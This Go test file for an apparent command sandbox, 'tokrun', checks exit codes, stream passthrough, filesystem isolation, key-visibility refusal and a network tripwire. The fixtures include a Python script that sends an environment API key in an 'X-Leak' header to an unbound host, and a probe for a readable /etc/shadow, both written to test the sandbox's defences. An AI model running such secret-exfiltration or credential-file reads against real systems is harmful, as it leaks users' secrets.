@@ -1,0 +1,160 @@
+package main
+
+import (
+	"crypto/sha256"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestExitStatusPassesThrough(t *testing.T) {
+	w := newWorld(t)
+	for _, tc := range []struct {
+		script string
+		want   int
+	}{
+		{"exit 0", 0},
+		{"exit 3", 3},
+		{"kill -TERM $$", 128 + 15},
+		{"kill -KILL $$", 128 + 9},
+	} {
+		r := w.run("", "--", "/bin/sh", "-c", tc.script)
+		if r.code != tc.want {
+			t.Errorf("sh -c %q: exit %d, want %d\n%s", tc.script, r.code, tc.want, r)
+		}
+	}
+	r := w.run("", "--", "no-such-command-here")
+	if r.code != 127 || !strings.Contains(r.stderr, "no-such-command-here") {
+		t.Errorf("a missing command: want exit 127 and its name on stderr, got\n%s", r)
+	}
+}
+
+func TestStdinPassesThrough(t *testing.T) {
+	w := newWorld(t)
+	in := strings.Repeat("line of input\n", 50000)
+	r := w.run(in, "--", "/bin/sh", "-c", "sha256sum")
+	want := fmt.Sprintf("%x", sha256.Sum256([]byte(in)))
+	if r.code != 0 || !strings.HasPrefix(r.stdout, want) {
+		t.Fatalf("stdin did not arrive whole: want %s\n%s", want, r)
+	}
+}
+
+// Large outputs on both streams arrive complete and each in order.
+func TestLargeOutputCompleteAndOrdered(t *testing.T) {
+	w := newWorld(t)
+	w.script("out.py", `
+import sys
+for i in range(200000):
+    sys.stdout.write("out %d\n" % i)
+    if i % 10 == 0:
+        sys.stderr.write("err %d\n" % i)
+`)
+	r := w.run("", "--", "python3", "out.py")
+	if r.code != 0 {
+		t.Fatalf("run failed: exit %d, stderr %.500s", r.code, r.stderr)
+	}
+	check := func(name, text, prefix string, step, n int) {
+		lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
+		if len(lines) != n {
+			t.Fatalf("%s: %d lines, want %d", name, len(lines), n)
+		}
+		for i, l := range lines {
+			if want := fmt.Sprintf("%s %d", prefix, i*step); l != want {
+				t.Fatalf("%s line %d = %q, want %q", name, i, l, want)
+			}
+		}
+	}
+	check("stdout", r.stdout, "out", 1, 200000)
+	check("stderr", r.stderr, "err", 10, 20000)
+}
+
+func TestFilesystem(t *testing.T) {
+	w := newWorld(t)
+	hostTmp, err := os.MkdirTemp("/tmp", "tokrun-host-only-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(hostTmp) })
+	script := strings.Join([]string{
+		"echo made-inside > result.txt",
+		"test -e " + hostTmp + " && echo HOST-TMP-VISIBLE",
+		"echo inside > /tmp/inside-only-" + filepath.Base(hostTmp),
+		"touch /usr/should-fail 2>/dev/null && echo USR-WRITABLE",
+		"touch /etc/should-fail 2>/dev/null && echo ETC-WRITABLE",
+		"test -s /etc/shadow && echo SHADOW-READABLE",
+		"pwd",
+	}, "; ")
+	r := w.run("", "--", "/bin/sh", "-c", script)
+	if r.code != 0 {
+		t.Fatalf("run failed:\n%s", r)
+	}
+	for _, bad := range []string{"HOST-TMP-VISIBLE", "USR-WRITABLE", "ETC-WRITABLE", "SHADOW-READABLE"} {
+		if strings.Contains(r.stdout, bad) {
+			t.Errorf("%s:\n%s", bad, r)
+		}
+	}
+	if !strings.Contains(r.stdout, w.project) {
+		t.Errorf("the command did not start in the working directory %s:\n%s", w.project, r)
+	}
+	b, err := os.ReadFile(filepath.Join(w.project, "result.txt"))
+	if err != nil || string(b) != "made-inside\n" {
+		t.Errorf("a file written in the working directory is not on the host: %q, %v", b, err)
+	}
+	if _, err := os.Stat("/tmp/inside-only-" + filepath.Base(hostTmp)); err == nil {
+		t.Errorf("the sandbox's /tmp is the host's")
+	}
+}
+
+// The private key is never visible: tokrun refuses to run where a mount
+// would show it.
+func TestRefusesVisibleKey(t *testing.T) {
+	w := newWorld(t)
+	inProject := filepath.Join(w.project, "key.txt")
+	b, _ := os.ReadFile(w.keyFile)
+	writeFile(t, inProject, string(b), 0o600)
+	for name, args := range map[string][]string{
+		"key in the working directory": {"--key", inProject},
+		"key under a --mount":          {"--key", w.keyFile, "--mount", filepath.Dir(w.keyFile) + ":/data:ro"},
+	} {
+		r := w.runRaw("", append([]string{"--policy", w.policy, "--upstream-ca", w.caFile, "--state-dir", w.stateDir}, append(args, "--", "/bin/true")...)...)
+		if r.code != 125 || !strings.Contains(r.stderr, "would be visible inside the sandbox") || r.stdout != "" {
+			t.Errorf("%s: want exit 125 and a refusal, got\n%s", name, r)
+		}
+	}
+}
+
+// A placeholder sent to a host outside its secret's binding ends the run
+// with --on-tripwire kill.
+func TestTripwireKill(t *testing.T) {
+	w := newWorld(t)
+	w.script("leak.py", `
+import os, time, urllib.request
+req = urllib.request.Request("`+w.otherURL("/x")+`", headers={"X-Leak": os.environ["DEMO_API_KEY"]})
+try:
+    urllib.request.urlopen(req, timeout=30)
+except Exception as e:
+    print("refused", e, flush=True)
+time.sleep(60)
+print("STILL RUNNING")
+`)
+	r := w.run("", "--on-tripwire", "kill", "--", "python3", "leak.py")
+	if r.code != 124 || strings.Contains(r.stdout, "STILL RUNNING") {
+		t.Fatalf("want exit 124 with the command ended, got\n%s", r)
+	}
+	if !strings.Contains(r.stderr, "tripwire") {
+		t.Errorf("stderr does not say the tripwire ended the run:\n%s", r)
+	}
+	r = w.run("", "--", "python3", "-c", `
+import os, urllib.request
+req = urllib.request.Request("`+w.otherURL("/x")+`", headers={"X-Leak": os.environ["DEMO_API_KEY"]})
+try:
+    urllib.request.urlopen(req, timeout=30)
+except Exception as e:
+    print("refused", e)
+`)
+	if r.code != 0 || !strings.Contains(r.stdout, "refused") {
+		t.Fatalf("with the default --on-tripwire deny the request is refused and the run goes on:\n%s", r)
+	}
+}
